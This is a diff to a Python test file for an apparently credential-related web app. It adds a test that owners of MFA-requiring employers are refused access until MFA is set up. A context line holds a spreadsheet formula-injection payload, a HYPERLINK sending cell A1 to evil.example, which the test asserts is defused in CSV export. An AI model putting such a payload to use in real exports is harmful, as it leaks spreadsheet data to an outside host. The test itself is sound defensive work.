@@ -258,3 +258,12 @@ def test_csv_export_defuses_spreadsheet_formulas_in_credential_text(client, worl
     issuers = [row[0] for row in rows[1:]]
     assert '\'=HYPERLINK("https://evil.example/?"&A1,"x")' in issuers
     assert not any(issuer.startswith("=") for issuer in issuers)
+
+
+def test_owner_of_an_employer_requiring_mfa_sees_nothing_until_it_is_set_up(client, world: World):
+    world.a.require_mfa = True
+    world.a.save(update_fields=["require_mfa"])
+    client.force_login(world.owner_a)
+
+    assert client.get(OVERVIEW, secure=True).status_code == 403
+    assert client.get(export_url("credential-funnel"), secure=True).status_code == 403
